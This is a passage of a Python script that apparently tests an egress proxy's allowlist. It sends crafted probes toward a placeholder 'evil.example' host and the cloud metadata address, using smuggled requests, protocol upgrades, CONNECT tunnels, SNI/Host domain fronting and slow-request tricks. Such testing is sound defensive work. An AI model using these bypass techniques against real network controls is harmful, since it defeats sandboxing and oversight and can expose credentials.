    "another Host": get(E, "/second"), "the same Host": get(K, "/second"), "CONNECT": f"CONNECT {E}:443 HTTP/1.1\r\n\r\n".encode(), "an absolute target": f"GET http://{E}/second HTTP/1.1\r\nHost: {K}\r\n\r\n".encode(),
    "TLS": hello(b"evil.example"), "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0",
}  # fmt: skip
for shown_, data_ in SECOND.items():
    add("behind", f"{shown_}, at once", lambda d=data_: conversation(EVIL, 80, FIRST + d))
    add("behind", f"{shown_}, later", lambda d=data_: conversation(EVIL, 80, FIRST, d))
    add("behind", f"{shown_}, through the proxy", lambda d=data_: conversation(*PROXY, b"GET http://ok.example/first HTTP/1.1\r\nHost: ok.example\r\n\r\n" + d))
    add("behind", f"{shown_}, behind a body", lambda d=data_: conversation(EVIL, 80, b"POST /first HTTP/1.1\r\nHost: ok.example\r\nContent-Length: 3\r\n\r\nabc" + d))
    add("behind", f"{shown_}, behind chunks", lambda d=data_: conversation(EVIL, 80, b"POST /first HTTP/1.1\r\nHost: ok.example\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n" + d))
    add("behind", f"{shown_}, after h2c", lambda d=data_: conversation(EVIL, 80, get(K, "/first", "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAAA\r\n"), d))
    add("behind", f"{shown_}, after a websocket", lambda d=data_: conversation(EVIL, 80, get(K, "/first", "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: x\r\n"), d))
    add("behind", f"{shown_}, after OPTIONS *", lambda d=data_: conversation(EVIL, 80, f"OPTIONS /first HTTP/1.1\r\nHost: {K}\r\n\r\n".encode(), d))


def secure(address, name, host, proxy=None, port=443):
    """A GET by TLS with a server name and a Host of its own."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection(PROXY if proxy else (address, port), PATIENCE) as s:
        if proxy:
            s.sendall(f"CONNECT {proxy} HTTP/1.1\r\n\r\n".encode())
            if first_word(s.recv(4096)) != "reached":
                return "403"
        try:
            with context.wrap_socket(s, server_hostname=name) as tls:
                tls.sendall(get(host, "/first", "Connection: close\r\n"))
                return first_word(tls.recv(4096))
        except ssl.SSLError as e:
            return "alert" if "ALERT" in str(e).upper() else type(e).__name__


# These arrive at ok.example and nowhere else: the content of TLS is not inspected.
add("fronting", "an allowed server name, to evil's address", lambda: secure(EVIL, K, K))
add("fronting", "an allowed server name, to evil's address, IPv6", lambda: secure(EVIL6, K, K))
add("fronting", "an allowed server name, evil as Host in it", lambda: secure(OK, K, E))
add("fronting", "an allowed server name, to the metadata service", lambda: secure("169.254.169.254", K, K))
add("fronting", "an allowed Host, to evil's address", lambda: dial(EVIL, 80, FIRST))
add("fronting", "an allowed Host, to the metadata service", lambda: dial("169.254.169.254", 80, FIRST))
add("fronting", "capitals", lambda: dial(EVIL, 80, get("OK.Example", "/first")))
add("fronting", "a dot behind", lambda: dial(EVIL, 80, get("ok.example.", "/first")))
add("fronting", "records of 1 byte", lambda: dial(EVIL, 443, records(hello(b"ok.example"), [1])))
add("fronting", "ECH", lambda: dial(EVIL, 443, extended(hello(b"ok.example"), struct.pack(">HH", 0xFE0D, 10) + b"\0" * 10)))
# These do not arrive.
add("tunnelled", "a tunnel to an allowed one, evil inside", lambda: secure(None, E, E, proxy="ok.example:443"))
add("tunnelled", "a tunnel to an allowed one, evil as Host inside", lambda: tunnel("ok.example:80", get(E)))
add("tunnelled", "a tunnel to an allowed one, CONNECT inside", lambda: tunnel("ok.example:80", b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n"))
add("tunnelled", "a tunnel to an allowed one, no name inside", lambda: tunnel("ok.example:443", hello(None)))
add("tunnelled", "a tunnel to an allowed one, SSH inside", lambda: tunnel("ok.example:443", b"SSH-2.0-x\r\n"))
add("tls", "a tunnel to evil, an allowed one inside", lambda: secure(None, K, K, proxy="evil.example:443"))


def tunnel(to, data):
    with socket.create_connection(PROXY, PATIENCE) as s:
        s.sendall(f"CONNECT {to} HTTP/1.1\r\n\r\n".encode())
        if first_word(s.recv(4096)) != "reached":
            return "no tunnel"
        s.sendall(data)
        return first_word(s.recv(4096))


# ---- slow requests: they are ended after ten seconds in any case ----


def slowly(address, port, parts, pause):
    with socket.create_connection((address, port), PATIENCE) as s:
        s.settimeout(pause)
        for part in parts:
            s.sendall(part)
            with contextlib.suppress(TimeoutError):
                return first_word(s.recv(100))
        s.settimeout(13)
        return first_word(s.recv(100))


add("slow", "a ClientHello", lambda: slowly(EVIL, 443, [bytes([b]) for b in hello(b"ok.example")], 0.2))
add("slow", "half a ClientHello", lambda: slowly(EVIL, 443, [hello(b"ok.example")[:100]], 0.2))
add("slow", "half a ClientHello, then HTTP", lambda: slowly(EVIL, 443, [hello(b"ok.example")[:100], get(K)], 0.2))
add("slow", "a head", lambda: slowly(EVIL, 80, [bytes([b]) for b in get(K, more="X-Long: " + "x" * 100 + "\r\n")], 0.2))
add("slow", "half a head", lambda: slowly(EVIL, 80, [get(K)[:-2]], 0.2))
add("slow", "nothing", lambda: slowly(EVIL, 443, [], 0.2))
add("slow", "nothing, to the proxy", lambda: slowly(*PROXY, [], 0.2))


def one(group, name, function):
    begun = time.monotonic()
    try:
        outcome = function()
    except OSError as e:
        outcome = errno.errorcode.get(e.errno, type(e).__name__)
    print(json.dumps([group, name, outcome, time.monotonic() - begun]) + "\n", end="", flush=True)


def main():
    """Arguments: groups, or GROUP: NAME of one of it."""
    wanted = [(g, n, f) for g, all_ in groups.items() for n, f in all_ if g in sys.argv[1:] or f"{g}: {n}" in sys.argv[1:]]
    slow = [threading.Thread(target=one, args=each) for each in wanted if each[0] == "slow"]
    for thread in slow:
        thread.start()
    for each in wanted:
        if each[0] != "slow":
            one(*each)
    for thread in slow:
        thread.join()


if __name__ == "__main__":
    main()
